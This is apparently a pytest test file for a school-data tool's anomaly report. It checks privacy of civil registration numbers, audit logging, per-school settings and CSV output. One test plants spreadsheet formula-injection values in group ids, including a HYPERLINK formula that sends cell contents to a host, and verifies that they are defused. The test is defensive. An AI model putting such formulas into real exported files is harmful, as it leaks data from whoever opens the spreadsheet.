"""The real command tells a school what it can mend: what stands in the documents, and nobody's name or number."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from collections import Counter, defaultdict
from pathlib import Path
from typing import Any

import pytest

from tests.support.daemon import Daemon
from tests.support.exports import COMMON, OWN, SHARED, Export
from tests.support.sheets import sheet
from tests.support.world import DAYS, MUNICIPALITY, World

SCHOOL, OTHER = "280555", "101002"
FILES = sorted(DAYS[0].glob("*.xml"))
NUMBER = "CivilRegistrationNumber"


@pytest.fixture
def world(tmp_path: Path) -> World:
    world = World(tmp_path / "world")
    world.municipality["guard"] = {"max_deleted_percent": None, "max_created_percent": None, "window": "0s"}
    world.municipality["guard"] |= {"max_updated_percent": None, "deletion_grace": "0s"}
    world.write()
    return world


def found(world: World, *args: str) -> dict[str, list[dict[str, Any]]]:
    """By institution what the command finds."""
    listed = world.run("anomalies", "--json", *args).ended(0).json["institutions"]
    return {one["institution"]: one["anomalies"] for one in listed}


def in_document(path: Path) -> dict[str, Counter[str]]:
    """What rules find in a document, read from it alone."""
    root = Export.of(path).root
    groups = root.iter(f"{{{COMMON}}}Group")
    named = {str(g.findtext(f"{{{COMMON}}}GroupId")): g for g in groups}
    classes = {name for name, g in named.items() if g.findtext(f"{{{COMMON}}}GroupType") == "Hovedgruppe"}
    attended: set[str] = set()
    idle, owners = [], defaultdict(set)
    for record in root.iter(f"{{{OWN}}}InstitutionPerson"):
        inside = {str(one.text) for one in record.iter(f"{{{SHARED}}}GroupId")}
        student = record.find(f"{{{OWN}}}Student")
        if student is not None:
            attended |= inside | {str(student.findtext(f"{{{COMMON}}}MainGroupId"))}
        employee = record.find(f"{{{COMMON}}}Employee")
        roles = [one.text for one in employee.iter(f"{{{COMMON}}}Role")] if employee is not None else []
        user_id = str(record.findtext(f"{{{OWN}}}Person/{{{COMMON}}}UserId"))
        if "Lærer" in roles and not inside:
            idle.append(user_id)
        owners[str(record.findtext(f"{{{OWN}}}Person/{{{COMMON}}}{NUMBER}"))].add(user_id)
    return {
        "class_without_pupils": Counter(classes - attended),
        "teacher_in_no_group": Counter(idle),
        "cpr_of_several_users": Counter(
            ",".join(sorted(users)) for number, users in owners.items() if number != "None" and len(users) > 1
        ),
    }


def test_both_days_are_told_as_they_stand_in_the_documents(world: World) -> None:
    for day in DAYS:
        world.drop(*sorted(day.glob("*.xml")))
        world.sync()
        told = found(world, "--ids")
        for path in sorted(day.glob("*.xml")):
            seen: dict[str, Counter[str]] = defaultdict(Counter)
            for one in told.get(path.stem, ()):
                name = ",".join(one["users"]) or one["groups"][0]
                seen[one["code"]][name] += 1
            for code, expected in in_document(path).items():
                assert seen[code] == expected, (path.stem, code)


def twins(first: Export, second: Export) -> tuple[str, list[str]]:
    """Give the first pupil of each document the number of one; returns it, and who they are."""
    people = [first.pupils[0], second.pupils[1]]
    number = str(first.person(people[0]).findtext(f"{{{COMMON}}}{NUMBER}"))
    second.set(second.person(people[1]), NUMBER, number)
    return number, [first.user_id(people[0]), second.user_id(people[1])]


def test_one_number_at_two_schools_is_told_to_each_and_shown_to_nobody(world: World) -> None:
    first, second = (Export.of(DAYS[0] / f"{number}.xml").cut(6) for number in (SCHOOL, OTHER))
    number, (here, there) = twins(first, second)
    for name, export in ((SCHOOL, first), (OTHER, second)):
        world.drop_bytes(f"{name}.xml", export.bytes())
    world.sync()
    told = found(world, "--code", "cpr_of_several_users", "--ids")
    assert {at: [(one["users"], one["also_at"]) for one in told[at]] for at in told} == {
        SCHOOL: [([here], [OTHER])],
        OTHER: [([there], [SCHOOL])],
    }
    plain = number.replace("-", "")
    for args in ([], ["--ids"], ["--json", "--ids"], ["--csv", "--ids"]):
        answer = world.run("anomalies", *args).ended(0)
        assert "cpr_of_several_users" in answer.stdout
        assert number not in answer.stdout and plain not in answer.stdout + answer.stderr
    for args in ([], ["--json"], ["--csv"]):
        said = world.run("anomalies", *args).ended(0).stdout
        assert here not in said and there not in said, "user ids are shown when they are asked for"
    looks = [
        json.loads(text) for (text,) in world.rows("SELECT record FROM audit WHERE record LIKE '%people.shown%'")
    ]
    assert [look["what"] for look in looks] == ["anomalies"] * 4, (
        "each look at ids is in the audit chain, no other"
    )
    assert looks[0]["count"] == 2
    assert not any(user in str(looks) for user in (here, there))


def test_what_is_off_is_not_told_to_that_school(world: World) -> None:
    world.drop(*FILES)
    world.sync()
    before = found(world)
    assert {one["code"] for one in before[SCHOOL]} == {"class_without_pupils"}
    world.municipality["anomalies"] = {"institutions": {SCHOOL: {"off": ["class_without_pupils"]}}}
    world.write()
    assert found(world) == {at: told for at, told in before.items() if at != SCHOOL}


def test_a_group_that_a_spreadsheet_would_take_for_a_formula_is_made_harmless(world: World) -> None:
    evil = '=HYPERLINK("http://127.0.0.1/"&A1;"x")'
    export = Export.of(DAYS[0] / f"{SCHOOL}.xml").cut(6)
    group = export.institution.find(f"{{{COMMON}}}Group")
    assert group is not None
    for identity in (evil, "+1", "@x", "-2", "plain"):
        copy = ET.fromstring(ET.tostring(group))  # noqa: S314 - our own
        Export.set(copy, "GroupId", identity)
        Export.set(copy, "GroupName", f"Klasse {identity}")
        export.institution.insert(list(export.institution).index(group), copy)
    world.drop_bytes("export.xml", export.bytes())
    world.sync()
    said = world.run("anomalies", "--csv", "--code", "class_without_pupils").ended(0).stdout
    rows = sheet(said)
    groups = {row["groups"] for row in rows}
    assert {f"'{evil}", "'+1", "'@x", "'-2", "plain"} <= groups
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]
    assert {(row["municipality"], row["institution"]) for row in rows} == {(MUNICIPALITY, SCHOOL)}


def test_nothing_to_mend_is_said_in_a_sentence(world: World) -> None:
    assert world.run("anomalies").ended(0).stdout == "No anomalies: the schools have nothing to mend.\n"
    assert world.run("anomalies", "--json").ended(0).json == {"institutions": []}


def test_the_daemon_shows_how_many_there_are_and_says_that_all_is_well(world: World) -> None:
    world.settings["web"] = {"listen": "127.0.0.1:0"}
    world.write()
    world.drop(*FILES)
    with Daemon(world.config) as daemon:
        daemon.start().wait_until_ready()
        daemon.wait_until(lambda: len(daemon.status()["institutions"]) == len(FILES), "all is recorded")
        daemon.wait_until(lambda: len(daemon.status()["anomalies"]) == 2, "all is looked at")
        status = daemon.status()
        daemon.stop()
    counts = {one["institution"]: one["counts"] for one in status["anomalies"]}
    expected = {at: len(told) for at, told in found(world).items()}
    assert {at: sum(number.values()) for at, number in counts.items()} == expected
    assert status["well"] and status["attention"] == []
    assert [note for note in status["notes"] if note.endswith("for the schools to mend: `skolebro anomalies`.")]


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["--code", "pupil"], "there is no such rule; there are pupil_in_no_class"),
        (["--institution", "999999"], "nothing is stored of institution 999999"),
        (["--municipality", "101"], "no municipality '101'"),
        (["--json", "--csv"], "choose one of them"),
    ],
)
def test_a_question_that_has_no_answer_is_refused(world: World, args: list[str], words: str) -> None:
    assert words in world.run("anomalies", *args).ended(2).stderr
